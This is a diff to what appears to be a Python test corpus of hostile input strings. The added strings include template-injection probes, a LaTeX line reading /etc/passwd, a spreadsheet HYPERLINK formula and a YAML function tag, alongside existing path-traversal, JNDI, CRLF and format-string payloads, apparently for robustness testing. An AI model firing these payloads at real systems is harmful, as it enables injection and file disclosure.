@@ -57,7 +57,7 @@ _SENTENCES = (
     "../../pwned", "..\\..\\pwned", "\\\\host\\share\\pwned", "jar:file:///pwned!/", "php://filter", "gopher://example.net", "ldap://example.net/a",
     "${jndi:ldap://example.net/a}", "javascript:touch('pwned')", "intent://pwned", "about:blank", "blob:x", "ws://example.net", "ftp://example.net/pwned",
     "mailto:a@b.c?body=x", "tel:1", "view-source:https://example.net", "\x1b]0;pwned\x07", "\x1b[2J", "%0d%0aSet-Cookie: a=b", "a\r\nLocation: //example.net",
-    "__class__", "self.__dict__", "os.environ", "globals()", "eval('7654321*1234577')", "exec('x')", "lambda: 7654321*1234577", "f'{7654321*1234577}'", "{7654321*1234577!r}", "{a.__class__}", "{0}", "{}", "%s", "%(a)s", "%x%x%n",
+    "__class__", "self.__dict__", "os.environ", "globals()", "eval('7654321*1234577')", "exec('x')", "lambda: 7654321*1234577", "f'{7654321*1234577}'", "{7654321*1234577!r}", "{a.__class__}", "${{7654321*1234577}}", "<#assign x=7654321*1234577>${x}", "{{range.constructor('return 7654321*1234577')()}}", "%{7654321*1234577}", "{~7654321*1234577~}", "<c:out value='${7654321*1234577}'/>", "\\input{/etc/passwd}", '=HYPERLINK("//example.net")', "!!js/function 'x'", "{0}", "{}", "%s", "%(a)s", "%x%x%n",
 )  # fmt: skip
 
 
